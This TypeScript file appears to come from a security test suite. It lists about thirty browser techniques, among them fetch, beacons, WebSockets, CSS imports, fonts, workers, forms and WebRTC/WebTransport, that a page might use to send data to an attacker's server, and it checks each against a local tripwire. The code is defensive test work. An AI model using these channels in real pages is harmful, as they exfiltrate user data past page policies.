import type { Attempt, AttemptClass, Red } from '../attempt';

/** What a page does to reach an address; it settles when that has ended one way or the other, or after a while. */
type Reach = (url: string) => unknown;

const reaching = (
  id: string,
  by: string,
  reach: Reach,
  { ending = '', weakness = 'network' }: { readonly ending?: string; readonly weakness?: string } = {},
): Attempt => ({
  id: `network-${id}`,
  wants: "send data to the attacker's server",
  by,
  weakness,
  run: ({ page, tripwire }) => page.evaluate(reach, tripwire.url(`network-${id}${ending}`)),
  came: ({ tripwire }) => tripwire.received(`network-${id}`),
});

const knocking = (
  id: string,
  by: string,
  kind: 'tcp' | 'udp',
  reach: (port: number) => unknown,
  weakness = 'network',
): Attempt => ({
  id: `network-${id}`,
  wants: "send data to the attacker's server",
  by,
  weakness,
  run: async ({ page, tripwire }: Red) =>
    page.evaluate(reach, await (kind === 'tcp' ? tripwire.tcpPort(id) : tripwire.udpPort(id))),
  came: ({ tripwire }) => tripwire.knocked(id),
});

/** Each function is sent to the page as it stands: nothing outside of it is known there. */
export const network: AttemptClass = {
  title: 'Connections from the page to a server of the attacker, with the policy of the page switched off',
  together: true,
  attempts: [
    reaching('fetch', 'fetch()', (url) => fetch(url).catch(() => {})),
    reaching('fetch-no-cors', 'fetch() without reading the answer', (url) =>
      fetch(url, { mode: 'no-cors', method: 'POST', body: 'what was found' }).catch(() => {}),
    ),
    reaching('fetch-keepalive', 'fetch() with keepalive', (url) =>
      fetch(url, { mode: 'no-cors', keepalive: true }).catch(() => {}),
    ),
    reaching('xhr', 'XMLHttpRequest', (url) => {
      const request = new XMLHttpRequest();
      request.open('GET', url);
      request.send();
      return new Promise((done) => request.addEventListener('loadend', () => done(null)));
    }),
    reaching('beacon', 'sendBeacon()', (url) => navigator.sendBeacon(url, 'what was found')),
    reaching('event-source', 'EventSource', (url) => {
      const source = new EventSource(url);
      return new Promise((done) =>
        source.addEventListener('error', () => {
          source.close();
          done(null);
        }),
      );
    }),
    reaching('web-socket', 'WebSocket', (url) => {
      const socket = new WebSocket(url.replace('http:', 'ws:'));
      return new Promise((done) => socket.addEventListener('close', () => done(null)));
    }),
    reaching('image', 'an image', (url) => {
      const image = new Image();
      image.src = url;
      return new Promise((done) => image.addEventListener('error', () => done(null)));
    }),
    reaching(
      'svg-image',
      'an image inside an SVG',
      (url) => {
        const holder = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
        const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
        image.setAttribute('href', url);
        holder.append(image);
        document.body.append(holder);
        return new Promise((done) => image.addEventListener('error', () => done(null)));
      },
      { ending: '.svg' },
    ),
    reaching(
      'stylesheet',
      'a style sheet',
      (url) => {
        const link = document.createElement('link');
        link.rel = 'stylesheet';
        link.href = url;
        document.head.append(link);
        return new Promise((done) => {
          link.addEventListener('error', () => done(null));
          link.addEventListener('load', () => done(null));
        });
      },
      { ending: '.css' },
    ),
    reaching(
      'css-import',
      'a style sheet that imports another',
      (url) => {
        const style = document.createElement('style');
        style.textContent = `@import url("${url}");`;
        document.head.append(style);
        return new Promise((done) => {
          style.addEventListener('error', () => done(null));
          style.addEventListener('load', () => done(null));
        });
      },
      { ending: '.css' },
    ),
    reaching('css-background', 'a CSS background', (url) => {
      const box = document.createElement('div');
      box.style.cssText = `position:fixed;width:9px;height:9px;background:url("${url}")`;
      document.body.append(box);
      return new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)));
    }),
    reaching('font', 'a font', (url) =>
      new FontFace('found', `url("${url}")`).load().then(
        () => {},
        () => {},
      ),
    ),
    reaching(
      'script',
      'a script',
      (url) => {
        const script = document.createElement('script');
        script.src = url;
        document.head.append(script);
        return new Promise((done) => {
          script.addEventListener('error', () => done(null));
          script.addEventListener('load', () => done(null));
        });
      },
      { ending: '.js' },
    ),
    reaching('import', 'import()', (url) => import(url).then(() => {}).catch(() => {}), { ending: '.js' }),
    reaching(
      'module-preload',
      'a preloaded module',
      (url) => {
        const link = document.createElement('link');
        link.rel = 'modulepreload';
        link.href = url;
        document.head.append(link);
        return new Promise((done) => {
          link.addEventListener('error', () => done(null));
          link.addEventListener('load', () => done(null));
        });
      },
      { ending: '.js' },
    ),
    reaching('prefetch', 'a prefetched page', (url) => {
      const link = document.createElement('link');
      link.rel = 'prefetch';
      link.href = url;
      document.head.append(link);
      return new Promise((done) => {
        link.addEventListener('error', () => done(null));
        link.addEventListener('load', () => done(null));
      });
    }),
    reaching('preload', 'a preloaded image', (url) => {
      const link = document.createElement('link');
      link.rel = 'preload';
      link.as = 'image';
      link.href = url;
      document.head.append(link);
      return new Promise((done) => {
        link.addEventListener('error', () => done(null));
        link.addEventListener('load', () => done(null));
      });
    }),
    reaching('video', 'a video', (url) => {
      const video = document.createElement('video');
      video.src = url;
      document.body.append(video);
      return new Promise((done) => video.addEventListener('error', () => done(null)));
    }),
    reaching('poster', 'the poster of a video', (url) => {
      const video = document.createElement('video');
      video.poster = url;
      document.body.append(video);
      return new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)));
    }),
    reaching('image-button', 'an image button', (url) => {
      const button = document.createElement('input');
      button.type = 'image';
      button.src = url;
      document.body.append(button);
      return new Promise((done) => button.addEventListener('error', () => done(null)));
    }),
    reaching('worker-fetch', 'fetch() in a worker', (url) => {
      const code = `fetch(${JSON.stringify(url)}, { mode: 'no-cors' }).finally(() => postMessage(1))`;
      const worker = new Worker(URL.createObjectURL(new Blob([code])));
      return new Promise((done) => {
        worker.addEventListener('message', () => done(null));
        worker.addEventListener('error', () => done(null));
      });
    }),
    reaching(
      'worker-import',
      'a script that a worker imports',
      (url) => {
        const code = `try { importScripts(${JSON.stringify(url)}) } finally { postMessage(1) }`;
        const worker = new Worker(URL.createObjectURL(new Blob([code])));
        return new Promise((done) => {
          worker.addEventListener('message', () => done(null));
          worker.addEventListener('error', () => done(null));
        });
      },
      { ending: '.js' },
    ),
    reaching('frame', 'a frame', (url) => {
      const frame = document.createElement('iframe');
      frame.src = url;
      document.body.append(frame);
      return new Promise((done) => frame.addEventListener('load', () => done(null)));
    }),
    reaching('object', 'an object', (url) => {
      const object = document.createElement('object');
      object.data = url;
      document.body.append(object);
      return new Promise((done) => {
        object.addEventListener('error', () => done(null));
        object.addEventListener('load', () => done(null));
      });
    }),
    reaching('form', 'a form sent into a frame', (url) => {
      const frame = document.createElement('iframe');
      frame.name = 'sink';
      const form = document.createElement('form');
      Object.assign(form, { action: url, method: 'POST', target: 'sink' });
      document.body.append(frame, form);
      form.submit();
      return new Promise((done) => setTimeout(done, 300));
    }),
    reaching('frame-in-frame', 'an image in a srcdoc frame', (url) => {
      const frame = document.createElement('iframe');
      frame.srcdoc = `<img src="${url}">`;
      document.body.append(frame);
      return new Promise((done) => frame.addEventListener('load', () => done(null)));
    }),
    knocking(
      'web-rtc-udp',
      'WebRTC with a STUN server over UDP',
      'udp',
      async (port) => {
        const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
        peer.createDataChannel('out');
        await peer.setLocalDescription(await peer.createOffer());
        await new Promise((done) => setTimeout(done, 500));
        peer.close();
      },
      'webrtc',
    ),
    knocking('web-rtc-tcp', 'WebRTC with a TURN server over TCP', 'tcp', async (port) => {
      const server = { urls: `turn:127.0.0.1:${port}?transport=tcp`, username: 'u', credential: 'c' };
      const peer = new RTCPeerConnection({ iceServers: [server] });
      peer.createDataChannel('out');
      await peer.setLocalDescription(await peer.createOffer());
      await new Promise((done) => setTimeout(done, 500));
      peer.close();
    }),
    knocking('web-transport', 'WebTransport', 'udp', async (port) => {
      const transport = new WebTransport(`https://127.0.0.1:${port}/out`);
      await Promise.race([transport.ready.catch(() => {}), new Promise((done) => setTimeout(done, 500))]);
    }),
  ],
};
